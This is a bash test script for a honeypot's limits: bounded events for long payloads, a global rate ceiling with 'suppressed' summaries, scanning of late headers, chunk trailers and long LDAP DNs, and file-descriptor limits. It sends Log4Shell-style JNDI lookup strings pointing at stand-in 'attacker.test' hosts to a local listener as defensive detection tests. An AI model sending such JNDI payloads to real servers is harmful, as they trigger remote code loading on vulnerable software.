#!/usr/bin/env bash
# honeypot_limits.sh -- logs must not amplify and nothing is silently left
# unscanned: a long payload makes a bounded event (fields cut, hashed); a
# flood from many addresses meets the global events-per-second ceiling and
# is summarised in "suppressed" events; an fd limit below max_connections
# is warned about and refused connections are counted; headers past the
# 100th, chunk extensions, chunked trailers and long LDAP DNs are scanned.
source "$(dirname "$0")/honeypot/common.sh"

read -r PW PL < <(freeports 2)
cat >"$T/hp.conf" <<CONF
node limits-test
log_file $T/events.jsonl
dedup_window 0
rate_per_source 1000000
rate_burst 1000000
rate_global 50
rate_global_burst 100
max_body 128K
max_message 128K
[listener web]
protocol http
listen 127.0.0.1:$PW
[listener ldap]
protocol ldap
listen 127.0.0.1:$PL
CONF
hp_start "$T/hp.conf"
EV=$T/events.jsonl
U=http://127.0.0.1:$PW

# ---- item 11: a 64 KiB payload makes a bounded event --------------------------
python3 - "$T/body" <<'PY'
import sys
open(sys.argv[1], "w").write("${jndi:ldap://long.attacker.test/" + "A" * 65536 + "}")
PY
curl -sS -o /dev/null --data-binary @"$T/body" "$U/long"
wait_events "$EV" '"uri":"/long"'
size=$(grep -F '"uri":"/long"' "$EV" | wc -c)
echo "64 KiB body: event of $size bytes"
python3 - "$EV" "$T/body" <<'PY' || fail "long payload: event not bounded as documented"
import hashlib, json, sys
body = open(sys.argv[2], "rb").read()
ev = [json.loads(l) for l in open(sys.argv[1]) if '"/long"' in l][0]
f = [x for x in ev["findings"] if x["where"] == "body"][0]
assert f["truncated"] is True, f.keys()
assert f["payload_length"] == len(body), f["payload_length"]
assert f["payload_sha256"] == hashlib.sha256(body).hexdigest()
assert body.decode().startswith(f["payload"]) and len(f["payload"]) < 8192
PY
[ "$size" -lt 40000 ] || fail "64 KiB body made a $size-byte event"
ok "64 KiB payload: event of $size bytes, payload cut with its length and SHA-256"

# ---- item 15: a flood from many addresses meets the global ceiling --------------
python3 - "$PW" >"$T/flood.out" <<'PY'
import http.client, sys, time
port = int(sys.argv[1]); sent = 0; t0 = time.time()
for a in range(2, 62):           # 60 source addresses, 10 requests each
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=5, source_address=("127.0.1.%d" % a, 0))
    for i in range(10):
        c.request("GET", "/flood%d-%d" % (a, i)); c.getresponse().read(); sent += 1
    c.close()
print(sent, round(time.time() - t0, 2))
PY
read -r sent secs <"$T/flood.out"
wait_events "$EV" '"event":"suppressed"' 1 5
# Every event is logged or summarised once the sinks have written the last
# second's summary; under a sanitizer on a loaded machine that can take a
# few seconds, so wait for the count (at most 20 s) instead of a fixed sleep.
count_flood() {
    logged=$(grep -c '"uri":"/flood' "$EV" || true)
    supp=$(python3 -c "
import json, sys
print(sum(json.loads(l)['suppressed']['count'] for l in open(sys.argv[1]) if '\"event\":\"suppressed\"' in l))" "$EV")
}
for _ in $(seq 1 40); do
    count_flood
    [ $((logged + supp)) -ge "$sent" ] && break
    sleep 0.5
done
max=$(python3 -c "import math; print(100 + math.ceil(50 * ($secs + 0.5)))")
[ "$logged" -le "$max" ] || fail "global ceiling 50/s burst 100: $logged of $sent flood events logged in ${secs}s (max $max)"
[ $((logged + supp)) -eq "$sent" ] || fail "flood: $logged logged + $supp in suppressed summaries != $sent sent"
ev_query "$EV" "e['suppressed'] if e['event'] == 'suppressed' else None" | head -1 | python3 -c "
import json, sys; s = json.loads(sys.stdin.readline())
assert s['events'].get('http.request', 0) > 0 and s['sources'] and s['rate_global'] == 50, s" ||
    fail "suppressed event lacks its breakdown"
ok "flood of $sent events from 60 addresses in ${secs}s: $logged logged, $supp summarised in 'suppressed' events"
hp_stop
grep -qE "stopped: .* $supp suppressed \(global ceiling\)" "$T/hp.err" || fail "summary lacks the global suppressed count: $(grep stopped: "$T/hp.err")"

# ---- item 17: what the parsers used to skip is scanned ---------------------------
read -r PW PL < <(freeports 2)
cat >"$T/hp.conf" <<CONF
log_file $T/events.jsonl
dedup_window 0
max_message 128K
[listener web]
protocol http
listen 127.0.0.1:$PW
[listener ldap]
protocol ldap
listen 127.0.0.1:$PL
CONF
hp_start "$T/hp.conf"
python3 - "$PW" "$PL" <<'PY'
import socket, sys
pw, pl = int(sys.argv[1]), int(sys.argv[2])
def http(raw):
    s = socket.create_connection(("127.0.0.1", pw), timeout=5); s.sendall(raw)
    s.settimeout(2)
    try:
        s.recv(65536)
    except socket.timeout:
        pass
    s.close()
hdrs = "".join("X-H%d: v\r\n" % i for i in range(104))
http(("GET /many HTTP/1.1\r\nHost: x\r\n" + hdrs +
      "X-Late: ${jndi:ldap://late-header.attacker.test/a}\r\nConnection: close\r\n\r\n").encode())
http(b"POST /ext HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
     b"4;x=${jndi:ldap://chunk-ext.attacker.test/a}\r\nabcd\r\n0\r\n"
     b"X-Trailer: ${jndi:ldap://trailer.attacker.test/a}\r\n\r\n")
def tlv(tag, body):
    n = len(body)
    ln = bytes([n]) if n < 128 else (b"\x82" + n.to_bytes(2, "big") if n < 65536 else b"\x83" + n.to_bytes(3, "big"))
    return bytes([tag]) + ln + body
dn = b"cn=" + b"a" * 17000 + b",${jndi:ldap://long-dn.attacker.test/a}"
search = tlv(0x63, tlv(0x04, dn) + b"\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00"
             + tlv(0x87, b"objectClass") + tlv(0x30, b""))
msg = tlv(0x30, b"\x02\x01\x01" + search)
s = socket.create_connection(("127.0.0.1", pl), timeout=5); s.sendall(msg)
s.settimeout(2)
try:
    s.recv(4096)
except socket.timeout:
    pass
s.close()
PY
for host in late-header chunk-ext trailer long-dn; do
    wait_events "$EV" "ldap://$host\\.attacker\\.test/a" 1 5
done
ok "scanned: a header after the 100th, a chunk extension, a chunked trailer, an LDAP DN past 16 KiB"
hp_stop

# ---- item 16: RLIMIT_NOFILE below max_connections --------------------------------
read -r PF < <(freeports 1)
cat >"$T/fd.conf" <<CONF
log_file $T/fd.jsonl
max_connections 1000
dedup_window 0
rate_global 0
[listener t]
protocol tcp
listen 127.0.0.1:$PF
CONF
: >"$T/hp.err"
(ulimit -n 128; exec "$DEFUSE" honeypot -c "$T/fd.conf" >"$T/hp.out" 2>"$T/hp.err") &
HP_PID=$!
wait_events "$T/hp.err" ready 1 10
grep -q "warning: max_connections 1000 needs" "$T/hp.err" || fail "no warning about the fd limit at start-up"
python3 - "$PF" >"$T/fdclient.out" <<'PY'
import socket, sys, time
socks = []
for i in range(150):
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5); socks.append(s)
time.sleep(1.5)
closed = 0
for s in socks:
    s.settimeout(0.2)
    try:
        closed += s.recv(1) == b""
    except (socket.timeout, ConnectionResetError):
        closed += 0
print(closed)
PY
closed=$(cat "$T/fdclient.out")
hp_stop
refused=$(sed -nE 's/.* ([0-9]+) refused at the file descriptor limit.*/\1/p' "$T/hp.err")
[ "${refused:-0}" -ge 50 ] || fail "150 connections at fd limit 128: refused count '${refused}' ($(grep stopped: "$T/hp.err"))"
[ "$(grep -c '"event":"connection.rejected"' "$T/fd.jsonl")" -ge 1 ] || fail "no connection.rejected event"
ok "fd limit 128 < max_connections 1000: warned at start, $refused of 150 refused and counted ($closed closed at once)"
echo "PASS"
